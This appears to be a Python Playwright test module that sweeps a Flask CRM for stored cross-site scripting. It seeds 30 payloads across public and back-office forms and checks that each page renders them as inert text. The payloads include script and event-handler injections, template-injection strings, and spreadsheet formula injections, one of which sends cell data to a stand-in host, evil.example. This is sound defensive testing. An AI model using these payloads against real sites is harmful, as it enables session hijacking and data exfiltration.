"""Stored cross-site scripting sweep (issue 8, "No way in"): script payloads go in through
every public field and every back-office form, and every page that shows them is opened in
a real browser, as an administrator, a clerk, a dealer and a customer without an account.

A page fails the sweep on any JavaScript dialog, any script that ran (a payload sets
`window.__xss` or `document.title`), any refusal by the Content-Security-Policy (the page
fixtures fail on those, and so does `Sweep`), any script error, any markup a payload
brought into the page (an inline event handler, a `javascript:` address, a script without
the page's nonce, an iframe, a `<base>`...), and any template expression that was
evaluated (`{{ 7*'7' }}` showing 7777777). A page that should show the payloads must show
them as text, so that a page which lost its data cannot pass by showing nothing. Exports
must give the payloads back as text, with formula prefixes neutralised (README: "cells
that begin with =, +, -, @, tab or carriage return are neutralised").

Most payloads are written straight into the database through the models (the test process
shares the live server's database); the public forms, a few back-office create forms, a
select2 lookup, case notes and steps, linking a card and an order import are driven
through the browser.

Figures (for the issue note; the module prints them at the end of its run): 30 payloads;
153 distinct pages, or states of a page after a submit, inspected: 74 as an administrator,
34 as a clerk, 26 as a dealer, 19 without an account; 16 exports read (14 CSV, 2 XLSX).
Lists have no inline editing (no view sets column_editable_list), so there is none to sweep.
"""
import csv
import io
import json
import time
from collections import defaultdict
from datetime import timedelta
from decimal import Decimal
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from flask_admin.contrib.sqla.filters import FilterLike
from sqlalchemy import select

from crm.clock import now, today
from crm.extensions import db
from crm.models import (AuditEntry, CardBatch, CaseNote, Complaint, Customer, Dealer, FeedbackCard, HotlineTicket,
                        ImportRow, Order, OrderImport, Product, User, Visit)
from crm.services import intake, numbering, spam
from crm.services.reports import REPORTS
from tests.conftest import make_user
from tests.e2e.conftest import sign_in

PAYLOADS = (
    '<script>alert("xss-1")</script>',
    '"><img src=x onerror=alert("xss-2")>',
    "'><svg onload=alert('xss-3')>",
    'javascript:alert("xss-4")',
    '</textarea><script>alert("xss-5")</script>',
    "</title><script>document.title='pwned-6'</script>",
    "{{ 7*'7' }}",
    "{% for x in 'ab' %}ssti-loop{% endfor %}",
    "{{ config }}{{ self }}",
    '" autofocus onfocus="alert(\'xss-10\')" x="',
    "' autofocus onfocus='alert(\"xss-11\")' x='",
    '<iframe srcdoc="<script>alert(12)</script>"></iframe>',
    '<a href="javascript:alert(\'xss-13\')">点我</a>',
    '\\u003cscript\\u003ealert("xss-14")\\u003c/script\\u003e',
    '＜script＞alert("xss-15")＜/script＞',
    '&lt;script&gt;alert("xss-16")&lt;/script&gt;',
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '[点我](javascript:alert("xss-20"))',
    '<details open ontoggle=alert("xss-21")>',
    "</script><script>window.__xss=22</script>",
    '"-alert("xss-23")-"',
    "<style>*{--xss:1}</style><b class=xss>24</b>",
    '<base href="//evil.example/">',
    'java\tscript:alert("xss-26")',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(27)>",
    "<svg><script>alert&#40;28&#41;</script></svg>",
    "张伟<script>window.__xss=29</script>",
    "-2+3+cmd|' /C calc'!A0",
)
ALL_PAYLOADS = "\n".join(PAYLOADS)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What an evaluated template expression would print (the payloads themselves never contain these).
EVALUATED = ("7777777", "ssti-loopssti-loop", "test-secret-key", "&lt;Config {", "TemplateReference")
HUMAN_PAUSE_S = spam.MIN_FILL_SECONDS + 0.5

OPENED: dict[str, set[str]] = defaultdict(set)  # role -> the pages the module's sweeps inspected
EXPORTS_READ: set[str] = set()

# Run in the page after every load: what a payload could have brought into the page, and
# whether the page shows payloads as text (in its text or its form fields).
INSPECT = r"""
() => {
  const problems = [];
  const where = el => el.tagName.toLowerCase() + (el.id ? '#' + el.id : '');
  const addresses = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background']);
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`inline handler ${name}="${attr.value}" on ${where(el)}`);
      if (name === 'srcdoc') problems.push(`srcdoc on ${where(el)}`);
      const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      // select2 (Flask-Admin's lookups) draws its own choice as <a href="javascript:void(0)">
      // and cancels the click; no payload is that exact no-op.
      const selectChoice = value === 'javascript:void(0)' && el.classList.contains('select2-choice');
      if (addresses.has(name) && /^(javascript|vbscript|data:text\/html)/.test(value) && !selectChoice) {
        problems.push(`${name}="${attr.value}" on ${where(el)}`);
      }
    }
  }
  for (const el of document.querySelectorAll('script')) {
    if (!el.src && el.type !== 'application/json' && !el.nonce) {
      problems.push('script without the page nonce: ' + el.textContent.slice(0, 80));
    }
  }
  for (const el of document.querySelectorAll('iframe, frame, object, embed, base, marquee, .xss, #xss, xss')) {
    problems.push('injected element ' + el.outerHTML.slice(0, 80));
  }
  for (const el of document.querySelectorAll('style')) {
    if (el.textContent.includes('xss')) problems.push('injected style ' + el.outerHTML.slice(0, 80));
  }
  if (window.__xss !== undefined) problems.push('a payload ran: window.__xss = ' + window.__xss);
  if (document.title.includes('pwned')) problems.push('a payload ran: document.title = ' + document.title);
  const html = document.documentElement.outerHTML;
  const evaluated = EVALUATED_MARKS.filter(mark => html.includes(mark));
  if (evaluated.length) problems.push('a template expression was evaluated: ' + evaluated.join(', '));
  const values = Array.from(document.querySelectorAll('input, textarea, select'), el => el.value)
    .concat(Array.from(document.querySelectorAll('option'), el => el.text)).join('\n');
  const text = document.body.innerText + '\n' + values;
  const shown = /alert\(|onerror|HYPERLINK|javascript|ssti-loop|7\*'7'|cmd\||evil\.example|xss/.test(text);
  return {problems, shown};
}
""".replace("EVALUATED_MARKS", json.dumps(EVALUATED))


class Sweep:
    """A browser page that opens pages and records everything that says a payload got in."""

    def __init__(self, page, base_url: str, role: str | None):
        self.page, self.base_url, self.role = page, base_url, role
        self.problems: list[str] = []
        self.opened: set[str] = set()
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.problems.append(f"{page.url}: script error: {error}"))
        page.on("console", lambda message: self.problems.append(f"{page.url}: {message.text}")
                if "Content Security Policy" in message.text else None)

    def _dialog(self, dialog):
        self.problems.append(f"{self.page.url}: a {dialog.type} dialog opened: {dialog.message}")
        dialog.dismiss()

    def open(self, path: str, shows: bool = True, status: int = 200) -> None:
        """Opens `path` and inspects it; `shows`: the page must show payloads as text."""
        response = self.page.goto(self.base_url + path)
        if response is None or response.status != status:
            self.problems.append(f"{path}: answered {response.status if response else 'nothing'}")
        self.inspect(path, shows)

    def inspect(self, label: str | None = None, shows: bool = True) -> None:
        """Inspects the page as it is now (after a click or a submit)."""
        label = label or self.page.url.removeprefix(self.base_url)
        self.opened.add(label)
        if self.role is not None:  # None: the sweep's self-check, not part of the figures
            OPENED[self.role].add(label)
        found = self.page.evaluate(INSPECT)
        self.problems += [f"{label}: {problem}" for problem in found["problems"]]
        if shows and not found["shown"]:
            self.problems.append(f"{label}: shows none of the payloads (did the page lose its data?)")

    def pages(self) -> int:
        """How many distinct pages (or states of a page after a submit) this sweep inspected."""
        return len(self.opened)


def assert_inert(*sweeps: Sweep) -> None:
    problems = [problem for sweep in sweeps for problem in sweep.problems]
    assert problems == [], "\n".join(["payloads got into pages:", *problems])


@pytest.fixture(scope="module", autouse=True)
def sweep_figures(request):
    """Prints the sweep's figures after the module, for the issue note."""
    yield
    roles = ", ".join(f"{role} {len(paths)}" for role, paths in sorted(OPENED.items()))
    line = (f"\nstored XSS sweep: {len(PAYLOADS)} payloads; {sum(map(len, OPENED.values()))} distinct pages "
            f"opened ({roles}); {len(EXPORTS_READ)} exports read")
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is None or capture is None:
        print(line)
        return
    with capture.global_and_fixture_disabled():  # past the output capture, onto the terminal
        reporter.write_line(line)


def filter_argument(app, endpoint: str, column: str, operation: type) -> str:
    """The list URL's argument of the view's filter on `column` of this kind (FilterLike...):
    Flask-Admin numbers filters by their place in the view's list."""
    view = next(view for view in app.extensions["admin"][0]._views if view.endpoint == endpoint)
    with app.test_request_context():
        for index, found in enumerate(view._filters):
            if getattr(found.column, "key", None) == column and isinstance(found, operation):
                return f"flt0_{view.get_filter_arg(index, found)}"
    raise LookupError(f"{endpoint} has no {operation} filter on {column}")


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def fit(column, text: str) -> str:
    """`text` cut to what the column holds (PostgreSQL refuses longer values; forms refuse them too)."""
    length = getattr(column.type, "length", None)
    return text[:length] if length else text


def as_sent(text: str) -> str:
    """What a form sends for `text` as the server keeps it: browsers send a textarea's line
    breaks as CRLF (HTML's form submission rules); the forms trim surrounding spaces."""
    return text.replace("\r\n", "\n").strip()


def stored(value: str | None) -> str | None:
    return None if value is None else value.replace("\r\n", "\n")


def mobile(index: int) -> str:
    return f"+86139{index:08d}"


def seed_archive() -> SimpleNamespace:
    """A record of every kind per payload, each text field holding a payload (long text
    fields all of them), linked so that every page has something to show: dealership 0
    (the dealer user's) holds half the customers, two customers share a mobile number
    (duplicates), birthdays and maintenance fall due this week, three products have
    repeating complaints, ticket 0 has public responses for the status page."""
    count = len(PAYLOADS)
    stamp = now()
    dealers = [Dealer(code=fit(Dealer.code, f"{i:02d}{payload(i)}"), name=fit(Dealer.name, payload(i + 1)),
                      province=fit(Dealer.province, payload(i + 2)), city=fit(Dealer.city, payload(i + 3)),
                      address=fit(Dealer.address, payload(i + 4)), contact_person=fit(Dealer.contact_person,
                                                                                      payload(i + 5)),
                      phone="+862012345678", level="standard", joined_on=today() - timedelta(days=400))
               for i in range(count)]
    products = [Product(model_number=fit(Product.model_number, f"{i:02d}{payload(i)}"),
                        name=fit(Product.name, payload(i + 1)), series=fit(Product.series, payload(i + 2)),
                        category="sofa", material=fit(Product.material, payload(i + 3)), warranty_months=36,
                        maintenance_interval_months=6)
                for i in range(count)]
    users = [User(username=fit(User.username, f"u{i:02d}{payload(i)}"), role="clerk", password_hash="x")
             for i in range(count)]
    db.session.add_all(dealers + products + users)
    db.session.flush()
    customers = []
    for i in range(count):
        customers.append(Customer(
            name=fit(Customer.name, payload(i)), mobile=mobile(0 if i == 2 else i), email=fit(Customer.email,
                                                                                               payload(i + 1)),
            province=fit(Customer.province, payload(i + 2)), city=fit(Customer.city, payload(i + 3)),
            district=fit(Customer.district, payload(i + 4)), address=fit(Customer.address, payload(i + 5)),
            employer=fit(Customer.employer, payload(i + 6)), salesperson=fit(Customer.salesperson, payload(i + 7)),
            discount_terms=fit(Customer.discount_terms, payload(i + 8)),
            payment_terms=fit(Customer.payment_terms, payload(i + 9)), notes=ALL_PAYLOADS,
            dealer=dealers[0] if i % 2 == 0 else dealers[i], status="actual", consent_to_contact=True,
            household_stage="couple", channel="web",
            birthday=(today() + timedelta(days=2)).replace(year=1980) if i < 6 else None))
    db.session.add_all(customers)
    db.session.flush()
    orders, visits, complaints, tickets, cards = [], [], [], [], []
    batches = [CardBatch(code=fit(CardBatch.code, f"{dealers[i].code}-{today():%y%m%d}-1"), dealer=dealers[i],
                         product=products[i], size=8) for i in range(3)]
    db.session.add_all(batches)
    for i, person in enumerate(customers):
        orders.append(Order(order_number=fit(Order.order_number, f"{i:02d}{payload(i)}"), customer=person,
                            dealer=person.dealer, product=products[i % 3], quantity=1, amount=Decimal("4999.00"),
                            ordered_on=today() - timedelta(days=200), delivered_on=care_base_date(),
                            salesperson=fit(Order.salesperson, payload(i + 1))))
        visits.append(Visit(customer=person, dealer=person.dealer, staff=users[i], channel="phone",
                            purpose="follow_up", happened_at=stamp - timedelta(days=1),
                            place=fit(Visit.place, payload(i)), summary=ALL_PAYLOADS, outcome=payload(i + 1),
                            satisfaction=4))
        db.session.add_all([orders[-1], visits[-1]])
        complaint = Complaint(number=numbering.complaint_number(), customer=person, dealer=person.dealer,
                              product=products[i % 3], category="product_quality", severity="normal",
                              status="acknowledged" if i == 0 else "new", description=ALL_PAYLOADS,
                              root_cause=payload(i), resolution=payload(i + 1), close_reason=payload(i + 2),
                              assigned_to=users[i], received_at=stamp - timedelta(hours=2))
        complaint.notes = [CaseNote(kind="response", public=True, body=payload(i), author=users[i]),
                           CaseNote(kind="progress", public=False, body=payload(i + 1), author=users[i]),
                           CaseNote(kind="escalate", public=False, body=payload(i + 2))]
        complaints.append(complaint)
        db.session.add(complaint)
        db.session.flush()  # numbering looks for numbers already given out
        ticket = HotlineTicket(number=numbering.ticket_number(), channel="web",
                               topic="complaint" if i % 2 else "repair", description=ALL_PAYLOADS,
                               contact_name=fit(HotlineTicket.contact_name, payload(i)),
                               mobile="+8613900001111" if i == 0 else mobile(100 + i),
                               city=fit(HotlineTicket.city, payload(i + 1)),
                               address=fit(HotlineTicket.address, payload(i + 2)), customer=person,
                               dealer=person.dealer, product=products[i % 3], status="in_progress" if i == 0 else "new",
                               resolution=payload(i + 3), close_reason=payload(i + 4), assigned_to=users[i],
                               received_at=stamp - timedelta(hours=1))
        ticket.notes = [CaseNote(kind="response", public=True, body=payload(j)) for j in range(i, i + 3)] + \
            [CaseNote(kind="progress", public=False, body=payload(i + 3))]
        tickets.append(ticket)
        db.session.add(ticket)
        db.session.flush()
        cards.append(FeedbackCard(reference=numbering.card_reference(), customer=person, dealer=person.dealer,
                                  product=products[i % 3], batch=batches[i % 3], serial=i % 8 + 1,
                                  rating_quality=5, rating_service=4, recommend_score=9, comments=ALL_PAYLOADS,
                                  contact_name=fit(FeedbackCard.contact_name, payload(i)), mobile=mobile(i),
                                  consent_to_contact=True, status="new", submitted_at=stamp - timedelta(hours=3)))
        db.session.add(cards[-1])
        db.session.flush()
    upload = OrderImport(dealer=dealers[0], filename=fit(OrderImport.filename, f"{payload(1)}.csv"),
                         status="previewed", total_rows=count, new_rows=0, error_rows=count)
    db.session.add(upload)
    db.session.flush()
    db.session.add_all([ImportRow(import_id=upload.id, row_number=i + 2, outcome="error",
                             values={"customer_name": payload(i), "mobile": "13900000000",
                                     "order_number": payload(i + 1), "ordered_on": payload(i + 2)},
                             errors={"product_model": {"code": "unknown_product", "value": payload(i + 3)}})
                        for i in range(count)])
    db.session.add(AuditEntry(actor=fit(AuditEntry.actor, payload(0)), address="127.0.0.1", action="update",
                              record_type="customer", record_id=customers[0].id,
                              record_label=fit(AuditEntry.record_label, payload(1)),
                              changes={"notes": [payload(2), payload(3)]}))
    db.session.commit()
    return SimpleNamespace(dealers=dealers, products=products, users=users, customers=customers, orders=orders,
                           visits=visits, complaints=complaints, tickets=tickets, cards=cards, batches=batches,
                           upload=upload)


def care_base_date():
    """A delivery date six months back: maintenance (every six months) falls due this week."""
    day = today()
    month, year = day.month - 6, day.year
    if month < 1:
        month, year = month + 12, year - 1
    return day.replace(year=year, month=month, day=min(day.day, 28))


# The sweep's own check -------------------------------------------------------------------------
def test_the_sweep_notices_payloads_that_got_into_a_page_although_the_policy_stops_them(live_server, browser):
    """Put into a real page as if the server had not escaped them, the payloads are noticed
    (their handlers, script addresses, scripts without the nonce, frames, styles, an evaluated
    template expression) even though the Content-Security-Policy keeps them from running: a
    sweep that noticed nothing could not tell a safe page from an unsafe one."""
    context = browser.new_context()  # not a page fixture: the policy's refusals are expected here
    page = context.new_page()
    sweep = Sweep(page, live_server, None)
    sweep.open("/ticket/status", shows=False)
    page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", ALL_PAYLOADS + "7777777")
    page.wait_for_timeout(300)  # the broken images' error handlers are refused asynchronously
    sweep.inspect()
    context.close()
    found = "\n".join(sweep.problems)
    for sign in ("inline handler onerror", "inline handler onload", "inline handler ontoggle", "srcdoc",
                 'href="javascript:alert', "script without the page nonce", "injected element <iframe",
                 "injected element <base", "injected element <b class", "injected style",
                 "a template expression was evaluated: 7777777", "Content Security Policy"):
        assert sign in found, f"the sweep missed {sign!r}:\n{found}"


# Public portal -------------------------------------------------------------------------------
def test_script_typed_into_the_public_forms_is_stored_as_typed_and_never_runs(live_server, app, phone_page,
                                                                              desktop_page):
    """A customer without an account types payloads into every text field of the feedback
    card (opened from a printed card) and the hotline ticket; what is stored is exactly what
    was typed, and the thank-you pages, the status check and every back-office page that
    shows the card, the ticket and the customer they created show it as text."""
    dealer = Dealer(code="XSS-PUB-1", name=fit(Dealer.name, payload(0)), province=payload(1)[:40],
                    city=payload(2)[:40], level="standard")
    product = Product(model_number="XSS-P-1", name=fit(Product.name, payload(3)), category="sofa",
                      series=fit(Product.series, payload(4)))
    batch = CardBatch(code="XSS-PUB-1-B1", dealer=dealer, product=product, size=8)
    db.session.add_all([dealer, product, batch])
    db.session.commit()
    make_user("clerk", "clerk")  # who reads what was sent
    with app.test_request_context():
        token = intake.card_token(batch, 3)
    db.session.rollback()  # no read snapshot of the test's stays open while the server writes
    feedback = Sweep(phone_page, live_server, "public")
    ticket_page = phone_page.context.new_page()
    ticket = Sweep(ticket_page, live_server, "public")
    feedback.open(f"/feedback?t={token}")  # the card names the payload dealer and product
    ticket.open("/ticket/new", shows=True)  # the product list holds the payload product
    opened_at = time.monotonic()

    typed = {"comments": ALL_PAYLOADS[:2000], "contact_name": payload(1)[:60]}
    phone_page.get_by_role("group", name="产品质量").get_by_text("5", exact=True).click()
    phone_page.locator("#comments").fill(typed["comments"])
    phone_page.locator("#contact_name").fill(typed["contact_name"])
    phone_page.locator("#mobile").fill("13912345678")
    phone_page.locator("#consent").check()

    ticket_typed = {"description": ALL_PAYLOADS[:2000], "contact_name": payload(9)[:60],
                    "city": payload(2)[:40], "address": payload(5)[:255]}
    ticket_page.get_by_label("维修或保养申请").check()
    for field, text in ticket_typed.items():
        ticket_page.locator(f"#{field}").fill(text)
    ticket_page.locator("#mobile").fill("137 0000 1111")
    sign_in(desktop_page, live_server, "clerk")  # while the forms wait out their minimum fill time
    ticket_page.wait_for_timeout(max(0.0, HUMAN_PAUSE_S - (time.monotonic() - opened_at)) * 1000)

    phone_page.get_by_role("button", name="提交反馈").click()
    phone_page.wait_for_url(f"{live_server}/feedback/thanks/**")
    feedback.inspect(shows=False)
    reference = phone_page.locator("#reference").inner_text()
    ticket_page.get_by_role("button", name="提交").click()
    ticket_page.wait_for_url(f"{live_server}/ticket/created/**")
    ticket.inspect(shows=False)
    number = ticket_page.locator("#reference").inner_text()

    db.session.rollback()
    card = db.session.scalar(select(FeedbackCard).where(FeedbackCard.reference == reference))
    stored_ticket = db.session.scalar(select(HotlineTicket).where(HotlineTicket.number == number))
    assert (stored(card.comments), card.contact_name) == (as_sent(typed["comments"]), as_sent(typed["contact_name"]))
    assert {field: stored(getattr(stored_ticket, field)) for field in ticket_typed} == \
        {field: as_sent(text) for field, text in ticket_typed.items()}

    # The customer checks the ticket; a clerk's public response with payloads is on its timeline.
    db.session.add(CaseNote(ticket_id=stored_ticket.id, kind="response", public=True, body=ALL_PAYLOADS))
    db.session.commit()
    ticket_page.get_by_role("link", name="查询工单").click()
    ticket_page.get_by_label("工单号").fill(number)
    ticket_page.get_by_label("手机号码后四位").fill("1111")
    ticket_page.get_by_role("button", name="查询").click()
    ticket_page.get_by_role("heading", name=f"工单 {number}").wait_for()
    ticket.inspect("/ticket/status (found, with responses)")

    # A clerk opens everything the two forms created.
    db.session.rollback()
    clerk = Sweep(desktop_page, live_server, "clerk")
    for view, record in (("feedback_card", card), ("hotline_ticket", stored_ticket)):
        clerk.open(f"/admin/{view}/")
        clerk.open(f"/admin/{view}/details/?id={record.id}")
    clerk.open(f"/admin/hotline_ticket/edit/?id={stored_ticket.id}")  # cards are not edited, only linked
    person = stored_ticket.customer or card.customer
    if person is not None:  # a card or ticket with an unknown number becomes a potential customer
        clerk.open(f"/admin/customer/details/?id={person.id}")
    assert_inert(feedback, ticket, clerk)


def test_public_pages_show_stored_payloads_and_typed_mistakes_as_text(live_server, app, phone_page):
    """The public pages that show stored records (the store and product lists of both forms,
    a card's page naming its store and product, a ticket's status with the maker's responses)
    and those that show a customer's input again after a mistake show payloads as text."""
    archive = seed_archive()
    with app.test_request_context():
        token = intake.card_token(archive.batches[0], 1)
    number = archive.tickets[0].number
    public = Sweep(phone_page, live_server, "public")
    public.open("/", shows=False)
    public.open("/feedback")  # every store and product, by their payload names
    public.open(f"/feedback?t={token}")
    public.open("/ticket/new")
    public.open(f"/feedback/thanks/{archive.cards[0].reference}", shows=False)
    public.open(f"/ticket/created/{number}", shows=False)
    public.open("/ticket/status", shows=False)
    phone_page.get_by_label("工单号").fill(number)
    phone_page.get_by_label("手机号码后四位").fill("1111")
    phone_page.get_by_role("button", name="查询").click()
    phone_page.get_by_role("heading", name=f"工单 {number}").wait_for()
    public.inspect("/ticket/status (found)")
    assert phone_page.locator(".timeline .reply").first.inner_text() == payload(0)

    # Mistakes: the forms come back with what was typed, payloads included.
    phone_page.get_by_label("工单号").fill(payload(0)[:20])
    phone_page.get_by_label("手机号码后四位").fill("1x1")
    phone_page.get_by_role("button", name="查询").click()
    public.inspect("/ticket/status (refused)")
    public.open("/ticket/new")
    for field in ("description", "contact_name", "city", "address"):
        phone_page.locator(f"#{field}").fill(payload(len(field))[:40])
    phone_page.locator("#mobile").fill(payload(3)[:20])
    phone_page.get_by_role("button", name="提交").click()
    phone_page.locator("#mobile-error").wait_for()
    public.inspect("/ticket/new (refused)")
    public.open("/login?next=" + quote(payload(3)))  # the address to return to, kept in the form
    phone_page.get_by_label("用户名").fill(payload(0))
    phone_page.get_by_label("密码").fill("wrong password")
    phone_page.locator("form.form").get_by_role("button", name="登录").click()
    phone_page.locator("#username").wait_for()
    public.inspect("/login (refused)")
    public.open("/admin/customer/details/?id=" + quote(payload(1)))  # the login page, to come back here
    public.open("/feedback/thanks/" + quote(payload(1), safe=""), shows=False)
    public.open("/feedback")
    phone_page.locator("#comments").fill(ALL_PAYLOADS[:2000])
    phone_page.locator("#contact_name").fill(payload(10)[:60])
    phone_page.locator("#mobile").fill(payload(2)[:20])
    phone_page.get_by_role("button", name="提交反馈").click()
    phone_page.locator(".field-error").first.wait_for()
    public.inspect("/feedback (refused)")
    assert_inert(public)
    assert public.pages() >= 14, public.pages()


# Back office: forms driven through the browser -------------------------------------------------
def test_script_typed_into_back_office_create_forms_is_stored_as_typed_and_never_runs(live_server, app,
                                                                                     desktop_page):
    """An administrator creates a dealer and a product, and a clerk a customer whose dealer
    is picked by typing into the select2 lookup (which lists the payload dealers), all with
    payloads in every text field; each is stored exactly as typed and shown as text in its
    list, its page, its edit form, its history and the audit trail."""
    seed_archive()
    make_user("admin", "admin")
    make_user("clerk", "clerk")
    page = desktop_page
    admin = Sweep(page, live_server, "admin")
    sign_in(page, live_server, "admin")

    dealer_typed = {"code": "XSS-NEW-1", "name": payload(0), "province": payload(3)[:40],
                    "city": payload(1)[:40], "address": payload(9), "contact_person": payload(10)[:60]}
    admin.open("/admin/dealer/new/", shows=False)
    for field, text in dealer_typed.items():
        page.locator(f"#{field}").fill(text)
    page.get_by_role("button", name="保存", exact=True).click()
    page.wait_for_url(f"{live_server}/admin/dealer/")
    admin.inspect("/admin/dealer/ (after create)")
    dealer = db.session.scalar(select(Dealer).where(Dealer.code == "XSS-NEW-1"))
    assert {field: getattr(dealer, field) for field in dealer_typed} == \
        {field: text.strip() for field, text in dealer_typed.items()}

    product_typed = {"model_number": "XSS-NEW-P", "name": payload(4), "series": payload(6)[:60],
                     "material": payload(11)[:120]}
    admin.open("/admin/product/new/", shows=False)
    for field, text in product_typed.items():
        page.locator(f"#{field}").fill(text)
    page.get_by_role("button", name="保存", exact=True).click()
    page.wait_for_url(f"{live_server}/admin/product/")
    admin.inspect("/admin/product/ (after create)")
    db.session.rollback()
    product = db.session.scalar(select(Product).where(Product.model_number == "XSS-NEW-P"))
    assert {field: getattr(product, field) for field in product_typed} == \
        {field: text.strip() for field, text in product_typed.items()}
    for view, record in (("dealer", dealer), ("product", product)):
        admin.open(f"/admin/{view}/details/?id={record.id}")
        admin.open(f"/admin/{view}/edit/?id={record.id}")
    admin.open("/admin/audit/?search=XSS-NEW")

    page.context.clear_cookies()
    clerk = Sweep(page, live_server, "clerk")
    sign_in(page, live_server, "clerk")
    customer_typed = {"name": payload(1)[:60], "province": payload(2)[:40], "address": payload(5),
                      "employer": payload(12)[:120], "salesperson": payload(9)[:60], "discount_terms": payload(10),
                      "payment_terms": payload(19), "notes": ALL_PAYLOADS}
    clerk.open("/admin/customer/new/", shows=False)
    for field, text in customer_typed.items():
        page.locator(f"#{field}").fill(text)
    page.locator("#s2id_dealer .select2-choice").click()
    page.locator(".select2-drop-active input.select2-input").fill("XSS-NEW")
    page.locator(".select2-result-label", has_text="XSS-NEW-1").wait_for()
    clerk.inspect("/admin/customer/new/ (dealer lookup open)")
    page.locator(".select2-drop-active input.select2-input").fill("alert")  # the payload dealers
    page.locator(".select2-result-label").nth(3).wait_for()
    clerk.inspect("/admin/customer/new/ (lookup lists payload dealers)")
    page.locator(".select2-drop-active input.select2-input").fill("XSS-NEW")
    page.locator(".select2-result-label", has_text="XSS-NEW-1").click()
    clerk.inspect("/admin/customer/new/ (payload dealer chosen)")
    page.get_by_role("button", name="保存", exact=True).click()
    page.wait_for_url(f"{live_server}/admin/customer/")
    clerk.inspect("/admin/customer/ (after create)")
    db.session.rollback()
    person = db.session.scalar(select(Customer).where(Customer.dealer_id == dealer.id))
    assert {field: stored(getattr(person, field)) for field in customer_typed} == \
        {field: as_sent(text) for field, text in customer_typed.items()}
    clerk.open(f"/admin/customer/details/?id={person.id}")
    clerk.open(f"/admin/customer/edit/?id={person.id}")
    assert_inert(admin, clerk)


def test_an_edit_refused_for_a_conflict_shows_who_saved_what_as_text(live_server, app, browser, desktop_page):
    """Two clerks edit one customer: the one whose username is a payload saves payloads into
    the address and the employer first; the other, who changed the employer only, is refused
    and sees, next to each field, who saved what meanwhile: as text, not as markup."""
    person = Customer(name=payload(3)[:60], mobile=mobile(1), address=payload(4), status="actual",
                      dealer=Dealer(code="XSS-EDIT-1", name=payload(5), level="standard"))
    db.session.add(person)
    db.session.commit()
    make_user("clerk", "clerk")
    other_name = payload(1)[:60]
    make_user(other_name, "clerk")
    edit = f"/admin/customer/edit/?id={person.id}"
    page = desktop_page
    clerk = Sweep(page, live_server, "clerk")
    sign_in(page, live_server, "clerk")
    clerk.open(edit)

    context = browser.new_context(locale="zh-CN")
    other_page = context.new_page()
    other_page.set_default_timeout(10_000)
    other = Sweep(other_page, live_server, "clerk")
    sign_in(other_page, live_server, other_name)
    other.open(edit)
    other_page.locator("#address").fill(payload(12))
    other_page.locator("#employer").fill(payload(20)[:120])
    other_page.get_by_role("button", name="保存", exact=True).click()
    other_page.wait_for_url(f"{live_server}/admin/customer/")
    context.close()

    page.locator("#employer").fill(payload(0))
    page.get_by_role("button", name="保存", exact=True).click()
    page.locator(".alert-danger").wait_for()
    clerk.inspect(f"{edit} (refused: someone saved meanwhile)")
    assert other_name in page.locator(".alert-danger").inner_text()
    assert page.locator("#address").input_value() == payload(12)  # taken from their save
    assert page.locator("#employer").input_value() == payload(0)  # the clerk's own entry, kept
    assert_inert(clerk, other)


def test_script_typed_into_case_notes_steps_and_card_links_is_stored_as_typed_and_never_runs(
        live_server, app, desktop_page):
    """A clerk answers a complaint with a payload response and progress note, resolves it
    and records the call-back with payload texts, and links a feedback card to a customer
    whose name is a payload (the confirmation names them); the case's page, its notes, the
    call-back visit and the customer's timeline show every text as typed."""
    archive = seed_archive()
    make_user("clerk", "clerk")
    page = desktop_page
    clerk = Sweep(page, live_server, "clerk")
    sign_in(page, live_server, "clerk")
    complaint = archive.complaints[0]  # acknowledged: it can be resolved
    details = f"/admin/complaint/details/?id={complaint.id}"
    typed = [payload(21), payload(4), payload(8)]
    for kind, text in zip(("response", "progress"), typed):
        clerk.open(details)
        page.locator(f"#kind-{kind}").check()
        page.locator("#note-body").fill(text)
        page.locator("#note-body").evaluate("el => el.form.requestSubmit()")
        page.locator(".alert-success").wait_for()
        clerk.inspect(f"{details} (after a {kind})")
    page.locator("#resolution").fill(typed[2])
    page.locator("#resolution").evaluate("el => el.form.requestSubmit()")
    page.locator(".alert-success").wait_for()
    clerk.inspect(f"{details} (resolved)")
    page.locator("#score").select_option("5")
    page.locator("#outcome").fill(payload(2))
    page.locator("#outcome").evaluate("el => el.form.requestSubmit()")
    page.locator(".alert-success").wait_for()
    clerk.inspect(f"{details} (call-back recorded)")
    db.session.rollback()
    bodies = db.session.scalars(select(CaseNote.body).where(CaseNote.complaint_id == complaint.id,
                                                           CaseNote.kind.in_(("response", "progress", "resolve")))
                                .order_by(CaseNote.id)).all()
    assert bodies[-3:] == [text.strip() for text in typed]
    callback = db.session.scalar(select(Visit).where(Visit.customer_id == complaint.customer_id,
                                                     Visit.satisfaction == 5))
    assert callback.outcome == payload(2).strip()
    clerk.open(f"/admin/visit/details/?id={callback.id}")
    clerk.open(f"/admin/customer/details/?id={complaint.customer_id}")

    card = archive.cards[5]
    clerk.open(f"/admin/feedback_card/details/?id={card.id}")
    page.locator("#link-mobile").fill("139 0000 0007")
    page.get_by_role("button", name="关联").click()
    page.locator(".alert-success").wait_for()
    clerk.inspect(f"/admin/feedback_card/details/?id={card.id} (linked)")
    assert payload(7) in page.locator(".alert-success").inner_text()
    page.locator("#link-mobile").fill(payload(1)[:40])  # not a number: refused, and shown again as typed
    page.get_by_role("button", name="关联").click()
    page.locator(".alert-danger").wait_for()
    clerk.inspect(f"/admin/feedback_card/details/?id={card.id} (refused)")
    assert_inert(clerk)


def test_an_order_list_full_of_script_is_previewed_and_imported_as_text(live_server, app, desktop_page):
    """A clerk uploads an order list whose file name and every text cell hold payloads
    (formulas included, which the import refuses); the progress page, the preview with its
